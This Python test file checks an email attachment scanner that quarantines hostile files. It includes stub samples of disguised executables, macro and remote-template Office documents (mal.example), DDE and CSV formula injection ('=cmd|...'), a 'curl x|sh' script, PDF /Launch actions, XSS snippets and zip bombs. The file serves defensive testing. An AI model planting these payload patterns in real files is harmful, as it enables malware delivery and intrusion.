"""Attachments as attackers send them: what each tries, and the reason it is held back for."""

import resource
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailbot.model.vocabulary import FileVerdict
from mailbot.parsers import read_mail
from mailbot.parsers.inspection import Budget, inspect, kinds, libmagic
from tests.attacks import hostile_files as files
from tests.attacks.hostile_files import PICTURE, PROGRAM
from tests.mails import Enclosed, mail

ANY = "application/octet-stream"
FORM = b"<html><body><form action=https://x.co>clave <input name=c></form></body></html>"
DDE_FIELD = (
    "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
    "<w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r></w:p>"
)
REMOTE = files.word(
    relationships=files.outside("attachedTemplate", "https://mal.example/plantilla.dotm")
)
INSTALLER = bytes.fromhex("84100c0000000000c000000000000046")
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")

HELD: dict[str, tuple[str, bytes, str]] = {
    # Programs, whatever they are called.
    "a Windows program called a PDF": ("factura.pdf", PROGRAM, "Por dentro es un programa"),
    "a Linux program without a name": ("", b"\x7fELF\x02\x01\x01" + bytes(64), "es un programa"),
    "a macOS program called a picture": ("a.png", b"\xcf\xfa\xed\xfe" + bytes(64), "un programa"),
    "a Java class called text": ("a.txt", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(64), "un programa"),
    "a Flash film": ("a.bin", b"CWS\x0a" + bytes(64), "un programa"),
    "a COM program, which no byte gives away": ("orden.com", b"\xb4\x09\xcd\x21", "(.com)"),
    "an installer called a document": ("a.doc", files.compound({"x": b"y"}, INSTALLER), "instalad"),
    # Names.
    "two endings": ("factura.pdf.exe", b"x", "(.exe) y aparenta ser .pdf"),
    "an ending behind many blanks": (f"acta.docx{' ' * 90}.scr", b"x", "aparenta ser .docx"),
    "a name turned around (RTL override)": ("factura\u202efdp.exe", b"x", "(.exe)"),
    "an ending cut by an invisible letter": ("foto.e\u200bxe", b"x", "(.exe)"),
    "an ending in full-width letters": ("foto．ｅｘｅ", b"x", "(.exe)"),
    "a dot and a blank behind the ending": ("virus.exe. ", b"x", "(.exe)"),
    "an NTFS stream behind a harmless name": ("notas.txt:virus.exe", b"x", "(.exe)"),
    "an ending that NTFS drops": ("virus.exe::$DATA", b"x", "(.exe)"),
    "capital letters": ("VIRUS.ExE", b"x", "(.exe)"),
    "a script": ("pago.js", b"WScript.Shell", "script"),
    "a PowerShell script": ("pago.ps1", b"iex", "script"),
    "a batch file": ("pago.bat", b"del *", "script"),
    "an HTML application": ("pago.hta", b"<html>", "script"),
    "a script of Unix without a name": ("leame", b"#!/bin/sh\ncurl x|sh\n", "script"),
    "a shortcut": ("SIIF.lnk", b"L\0\0\0", "acceso directo"),
    "a shortcut called a document": (
        "a.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "acceso directo",
    ),
    "a web shortcut called text": ("a.txt", b"[InternetShortcut]\nURL=file://x", "acceso directo"),
    "a search connector": ("docs.library-ms", b"<libraryDescription>", "acceso directo"),
    "a settings shortcut": ("a.settingcontent-ms", b"<PCSettings>", "acceso directo"),
    "a remote desktop file": ("servidor.rdp", b"full address:s:x", "acceso directo"),
    "an Excel add-in": ("util.xll", b"x", "complemento"),
    "a symbolic link table": ("tabla.slk", b"ID;P\nE", "complemento"),
    "a registry file": ("a.reg", b"REGEDIT4", "configuración"),
    "a help file": ("manual.chm", b"ITSF", "ayuda"),
    "a OneNote section": ("acta.one", b"x", "notas"),
    "a disk image": ("factura.iso", b"x", "imagen de disco"),
    "a disk image called a document": ("a.pdf", bytes(0x8001) + b"CD001" + bytes(99), "de disco"),
    "a database": ("datos.accdb", b"x", "base de datos"),
    # Office.
    "a document with macros by its name": ("carta.docm", files.word(), "macros"),
    "macros in a docx": ("carta.docx", files.word({"word/vbaProject.bin": b"x"}), "macros"),
    "macros under another name": (
        "carta.docx",
        files.word({"word/fondo.bin": b"x"}, types='<Override PartName="/word/fondo.bin" '
                   'ContentType="application/vnd.ms-office.vbaProject"/>'),
        "macros",
    ),
    "Excel 4 macros in an xlsx": ("a.xlsx", files.word({"xl/macrosheets/s.xml": "x"}), "macros"),
    "an ActiveX control": ("a.docx", files.word({"word/activeX/activeX1.bin": b"x"}), "ActiveX"),
    "a template on the web": ("carta.docx", REMOTE, "otro lugar de la red"),
    "a template on a share": (
        "carta.docx",
        files.word(relationships=files.outside("attachedTemplate", "file://///10.0.0.9/x/p.dotm")),
        "otro lugar de la red",
    ),
    "a template on the web, its address in numbers": (
        "carta.docx",
        files.word(relationships=files.outside("attachedTemplate", "&#104;ttp://mal.example/p.dotm")),
        "otro lugar de la red",
    ),
    "a picture on a share, which takes passwords": (
        "carta.docx",
        files.word(relationships=files.outside("image", "file://10.0.0.9/x.png")),
        "otro lugar de la red",
    ),
    "a DDE field in pieces": ("a.docx", files.word({"word/document.xml": DDE_FIELD}), "DDE"),
    "a DDE link in a workbook": (
        "a.xlsx",
        files.word({"xl/externalLinks/e.xml": "<externalLink><ddeLink/></externalLink>"}),
        "DDE",
    ),
    "a program dropped into a document": (
        "a.docx",
        files.word(
            {"word/embeddings/oleObject1.bin": files.compound(
                {"\x01Ole10Native": files.package("factura.exe", PROGRAM)})}
        ),
        "«factura.exe»",
    ),
    "macros in an OpenDocument": (
        "a.odt",
        files.zipped({"META-INF/manifest.xml": "<m/>", "Basic/Standard/Module1.xml": "x"}),
        "macros",
    ),
    "an encrypted OpenDocument": (
        "a.odt", files.zipped({"META-INF/manifest.xml": "<encryption-data/>"}), "contraseña",
    ),
    "macros in an old Word document": (
        "a.doc", files.compound({"Macros/VBA/dir": b"x", "WordDocument": bytes(32)}), "macros",
    ),
    "Excel 4 macros in an old workbook": (
        "a.xls", files.compound({"Workbook": files.workbook(files.sheet(1))}), "macros",
    ),
    "an old workbook with a password": (
        "a.xls", files.compound({"Workbook": files.workbook((0x2F, bytes(6)))}), "contraseña",
    ),
    "an old Word document with a password": (
        "a.doc", files.compound({"WordDocument": bytes(11) + b"\x01" + bytes(20)}), "contraseña",
    ),
    "an encrypted modern document": (
        "a.docx", files.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "contraseña",
    ),
    "an equation object": ("a.doc", files.compound({"x": b"y"}, EQUATION), "ecuación"),
    "an RTF with an object": ("a.doc", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "objetos"),
    "an RTF that updates its object by itself": ("a.rtf", b"{\\rt{\\object\\objupdate", "objetos"),
    "an RTF with a template on the web": (
        "a.rtf", b"{\\rtf1{\\*\\template https://mal.example/p}}", "otro lugar de la red",
    ),
    "a program in an Outlook message": (
        "correo.msg", files.outlook_message("factura.exe", PROGRAM), "«factura.exe»",
    ),
    # PDF.
    "a PDF that starts a program": ("a.pdf", files.pdf(b"<</S /Launch /F (cmd.exe)>>"), "/Launch"),
    "a PDF that hides the word": ("a.pdf", files.pdf(b"<</S /L#61unch /F (cmd)>>"), "/Launch"),
    "a PDF that hides it in a compressed object": (
        "a.pdf",
        files.pdf(files.stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                               zlib.compress(b"1 0 <</S /Launch>>"))),
        "/Launch",
    ),
    "a PDF that carries a program": (
        "a.pdf", files.pdf(files.stream(b"/Type /EmbeddedFile", PROGRAM)), "un programa",
    ),
    "a PDF that carries a script by its name": (
        "a.pdf", files.pdf(b"<</Type /Filespec /EF 3 0 R /UF (pago.js)>>"), "«pago.js»",
    ),
    "a PDF behind other bytes": (
        "a.bin", b"\n" * 200 + files.pdf(b"<</S /Launch>>"), "/Launch",
    ),
    # Pages.
    "a page that asks for a password": ("factura.html", FORM, "formulario"),
    "a page with a script": ("a.htm", b"<html><script>x()</script>", "ejecuta órdenes"),
    "a page in UTF-16": ("a.html", "<html><script>".encode("utf-16"), "ejecuta órdenes"),
    "a page that runs when it is shown": ("a.html", b"<img src=x onerror=alert(1)>", "órdenes"),
    "a link that runs, its letters in numbers": (
        "a.html", b'<a href="java&#115;cript&colon;x()">', "órdenes",
    ),
    "a page that leads away": ("a.html", b'<meta http-equiv="Refresh" content=0>', "lleva a otra"),
    "a drawing with a script": ("logo.svg", b"<svg><script>x()</script></svg>", "órdenes"),
    "a page called a workbook": ("informe.xls", FORM, "formulario"),
    "an XML with a style sheet that runs": (
        "factura.xml", b'<?xml version="1.0"?><?xml-stylesheet href="#x"?><a/>', "XML",
    ),
    "a table that starts a program": ("a.csv", b"a;=cmd|'/C calc'!A0;b", "fórmula"),
    "an archived page": ("a.mht", b"MIME-Version: 1.0", "página archivada"),
    # Archives.
    "a zip with a program": ("a.zip", files.zipped({"x/y.exe": b"x"}), "«y.exe»"),
    "a zip with a program called a picture": ("a.zip", files.zipped({"a.png": PROGRAM}), "«a.png»"),
    "a program two zips deep": ("a.zip", files.nested(2, "v.exe", PROGRAM), "«v.exe»"),
    "a zip in a zip in a zip": ("a.zip", files.nested(3, "a.txt", b"x"), "dentro de otros"),
    "a zip without its ending": ("factura", files.zipped({"v.vbs": b"x"}), "«v.vbs»"),
    "a zip called a document": ("a.docx", files.zipped({"v.exe": b"x"}), "«v.exe»"),
    "a zip with a password": ("a.zip", files.encrypted_zip(), "contraseña"),
    "a zip whose directory lies": ("a.zip", files.lying_zip(), "no coincide"),
    "a zip behind another zip": (
        "a.zip", files.zipped({"a.txt": b"x"}) + files.zipped({"b.txt": b"y"}), "pegados",
    ),
    "a zip cut off": ("a.zip", files.zipped({"a.txt": b"x" * 999})[:60], "dañado"),
    "a text called a zip": ("a.zip", b"hola", "dañado"),
    "a zip that writes outside of its folder": (
        "a.zip", files.zipped({"../../Inicio/a.txt": b"x"}), "fuera de su carpeta",
    ),
    "a zip packed in a way of its own": (
        "a.zip", files.zipped({"a.txt": b"x"}, zipfile.ZIP_LZMA), "no se puede revisar",
    ),
    "a 7z": ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(30), "no se puede revisar"),
    "a 7z called a zip": ("a.zip", b"7z\xbc\xaf\x27\x1c" + bytes(30), "no se puede revisar"),
    "a cab": ("a.bin", b"MSCF" + bytes(30), "no se puede revisar"),
    "an ace": ("a.bin", bytes(7) + b"**ACE**" + bytes(30), "no se puede revisar"),
    "an lzh": ("a.bin", b"\x19\x33-lh5-" + bytes(30), "no se puede revisar"),
    "a rar with a program": ("a.rar", files.rar5("factura.pdf", "v.exe"), "«v.exe»"),
    "a rar with a password": ("a.rar", files.rar5("a.pdf", encrypted=True), "contraseña"),
    "a rar with what can't be looked at": ("a.rar", files.rar5("a.doc"), "RAR"),
    "a rar with a rar": ("a.rar", files.rar5("a.rar"), "RAR"),
    "an old rar with a program": ("a.rar", files.rar4(b"v.scr"), "«v.scr»"),
    "an old rar that hides the ending in a second spelling": (
        "a.rar", files.rar4(b"v.pdf", b"\0\x00vx.e\x00xe"), "(.exe)",
    ),
    "a rar cut off": ("a.rar", files.rar5("a.pdf")[:20], "dañado"),
    "a tar with a program": ("a.tar", files.tarred({"v.exe": b"x"}), "«v.exe»"),
    "a tar with a link out of it": ("a.tar", files.tarred({}, link="/etc/passwd"), "enlaces"),
    "a gzip that says itself that it is a program": (
        "a.txt.gz", files.named_gzip("v.exe", b"x"), "(.exe)",
    ),
    "a compressed tar with a program": (
        "a.tgz", files.named_gzip("a.tar", files.tarred({"v.exe": b"x"})), "«v.exe»",
    ),
    "an enclosed mail with a program": (
        "reenviado.eml",
        mail(sender="a@b.co", to="c@d.co", subject="x", text="x",
             files=[Enclosed(name="v.exe", content=PROGRAM, type=ANY)]),
        "«v.exe»",
    ),
    "an encrypted PGP file": ("a.asc", b"-----BEGIN PGP MESSAGE-----\n\nx", "cifrado"),
}  # fmt: skip

PASS: dict[str, tuple[str, bytes]] = {
    "a picture": ("pantalla.png", PICTURE),
    "a text": ("error.txt", "ORA-0001: error de integración".encode()),
    "a text that begins like a program": ("a.txt", b"MZ-2044 no carga el rubro"),
    "a table": ("saldos.csv", b"cuenta;valor\n1;-200\n2;=A1+3\n"),
    "a page that only shows": ("extracto.html", b"<html><body><table><tr><td>1</td></table>"),
    "an error page kept as text": ("error.txt", b"<html><script>x()</script></html>"),
    "a PDF form with JavaScript": ("plantilla.pdf", files.pdf(b"<</S /JavaScript /JS (x)>>")),
    "a PDF that carries a table": (
        "a.pdf", files.pdf(files.stream(b"/Type /EmbeddedFile", b"a;b")),
    ),
    "a Word document": ("carta.docx", files.word()),
    "a Word document of the writer's own template": (
        "carta.docx",
        files.word(relationships=files.outside("attachedTemplate", "file:///C:\\Users\\ana\\Normal.dotm")),
    ),
    "a Word document with a picture of the web": (
        "carta.docx", files.word(relationships=files.outside("image", "https://x.co/logo.png")),
    ),
    "a workbook with a link to another one": (
        "a.xlsx", files.word(relationships=files.outside("externalLinkPath", "\\\\srv\\b.xlsx")),
    ),
    "a document with a workbook in it": (
        "carta.docx", files.word({"word/embeddings/libro.xlsx": files.word()}),
    ),
    "an old workbook": ("a.xls", files.compound({"Workbook": files.workbook(files.sheet(0))})),
    "an Outlook message with a picture": (
        "a.msg", files.outlook_message("pantalla.png", PICTURE),
    ),
    "an RTF": ("a.rtf", b"{\\rtf1 Hola {\\*\\template C:\\\\plantilla.dot}}"),
    "a zip of documents": ("a.zip", files.zipped({"x/a.docx": files.word(), "b.png": PICTURE})),
    "a zip in a zip": ("a.zip", files.nested(2, "a.txt", b"x")),
    "a zip written by an old program": (
        "a.zip", files.zipped({"Relación año.txt": b"x", "carpeta/": b""}),
    ),
    "an invoice of the DIAN": (
        "fv.zip", files.zipped({"f.xml": '<?xml version="1.0"?><Invoice/>', "f.pdf": files.pdf()}),
    ),
    "a rar of documents": ("a.rar", files.rar5("acta.pdf", "saldos.xlsx")),
    "an old rar of a name with accents": (
        "a.rar", files.rar4("año.pdf".encode(), b"\0\x00a\xf1o.\x00pdf"),
    ),
    "a compressed table": ("a.csv.gz", files.named_gzip("a.csv", b"a;b")),
    "a forwarded mail": ("r.eml", mail(sender="a@b.co", to="c@d.co", subject="x", text="x")),
    "an empty file": ("vacio.zip", b""),
}  # fmt: skip


@pytest.mark.parametrize("attack", HELD)
def test_a_hostile_file_is_held_back_with_its_reason(attack: str):
    name, content, reason = HELD[attack]
    found = inspect(name, ANY, content)
    assert found.verdict is FileVerdict.QUARANTINED
    assert reason in found.why
    assert found.why[0].isupper()
    assert found.why.endswith(".")


@pytest.mark.parametrize("sent", PASS)
def test_what_people_send_passes(sent: str):
    found = inspect(PASS[sent][0], ANY, PASS[sent][1])
    assert (found.verdict, found.why) == (FileVerdict.OK, "")


BOMBS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a zip of zeros": ("a.zip", lambda: files.zipped({"a.bin": bytes(40_000_000)}), "su tamaño"),
    "a zip of zips of zeros (42.zip)": (
        "a.zip",
        lambda: files.zipped(
            {f"{i}.zip": files.zipped({"0.zip": files.zipped({"0": bytes(3_000_000)})})
             for i in range(16)}
        ),
        "hasta el fondo",
    ),
    "a zip with 100,000 entries": ("a.zip", lambda: files.crowded_zip(100_000), "demasiados"),
    "a zip of overlapping entries": ("a.zip", files.overlapping_zip, "puede ser un ataque"),
    "a gzip of zeros": ("a.txt.gz", files.gzip_bomb, "ocupa demasiado"),
    "a bzip2 of zeros": ("a.txt.bz2", files.bzip2_bomb, ""),
    "an xz of zeros": ("a.txt.xz", files.xz_bomb, "ocupa demasiado"),
    "an xz that wants 512 MB to begin": ("a.xz", files.xz_of_much_memory, "no se puede revisar"),
    "a page of ten million numbered letters": (
        "a.html", lambda: b"&#1;" * 2_500_000, "revisar",
    ),
    "a table of commands that lead nowhere": (
        "a.csv", lambda: b"x|'" * 300_000, "",
    ),
    "a page of tags that never end": ("a.html", lambda: b"<" * 3_000_000, ""),
    "a table of commands that never end": ("a.csv", lambda: b"=cmd|'" * 300_000, "fórmula"),
    "a PDF of a thousand streams without an end": (
        "a.pdf", lambda: files.pdf(*[b"<</Type /ObjStm>>\nstream\n" + b"x" * 5000] * 1000), "",
    ),
    "an RTF of templates that never end": (
        "a.rtf", lambda: b"{\\rt{\\*\\template " * 200_000, "plantilla",
    ),
    "a compound file whose sectors go in a circle": (
        "a.doc", files.circular_compound, "ocupa demasiado",
    ),
}  # fmt: skip


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_seen_through_without_its_memory(bomb: str):
    name, make, reason = BOMBS[bomb]
    content = make()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    found = inspect(name, ANY, content)
    assert reason in found.why
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000


def test_the_files_of_one_mail_share_one_budget():
    budget = Budget(unpacked=1_000_000)
    content = files.named_gzip("a.bin", bytes(400_000))
    verdicts = [inspect("a.bin.gz", ANY, content, budget).verdict for _ in range(4)]
    assert verdicts == [FileVerdict.OK] * 2 + [FileVerdict.QUARANTINED] * 2


@settings(max_examples=150, deadline=None)
@given(st.sampled_from([each[1] for each in [*HELD.values(), *PASS.values()]]), st.data())
def test_no_damaged_file_breaks_the_inspection(content: bytes, data: st.DataObject):
    broken = bytearray(content)
    for _ in range(data.draw(st.integers(0, 8))):
        if broken:
            at = data.draw(st.integers(0, len(broken) - 1))
            broken[at] = data.draw(st.integers(0, 255))
    end = data.draw(st.integers(0, len(broken)))
    name = data.draw(st.sampled_from(["a.zip", "a.pdf", "a.doc", "a.rar", "a.html", "a.eml", ""]))
    found = inspect(name, ANY, bytes(broken[:end]))
    assert (found.verdict is FileVerdict.QUARANTINED) == bool(found.why)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=80), st.text(max_size=30), st.binary(max_size=300))
def test_no_name_and_no_bytes_break_the_inspection(name: str, declared: str, content: bytes):
    found = inspect(name, declared, content)
    assert (found.verdict is FileVerdict.QUARANTINED) == bool(found.why)


def test_programs_are_recognised_without_libmagic(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(kinds, "detector", lambda: None)
    for name, content, _reason in HELD.values():
        assert inspect(name, ANY, content).verdict is FileVerdict.QUARANTINED, name


def test_libmagic_leaves_the_process_as_it_was():
    import os

    libmagic.detector.cache_clear()
    before = dict(os.environ)
    detect = libmagic.detector()
    assert detect is not None
    assert detect(b"GIF89a" + bytes(20)) == "image/gif"
    assert dict(os.environ) == before


def test_a_mail_with_a_hostile_file_lives_and_tells_why():
    read = read_mail(
        mail(
            sender="ana@entidad.gov.co", to="linea@linea.gov.co", subject="Error",
            text="No puedo pagar.",
            files=[
                Enclosed(name="pantalla.png", content=PICTURE, type="image/png"),
                Enclosed(name="factura\u202efdp.exe", content=PROGRAM, type="application/pdf"),
            ],
        )
    )  # fmt: skip
    assert read.text == "No puedo pagar."
    assert [(f.name, f.verdict, f.why) for f in read.attachments] == [
        ("pantalla.png", FileVerdict.OK, ""),
        ("facturafdp.exe", FileVerdict.QUARANTINED, "Es un programa (.exe)."),
    ]
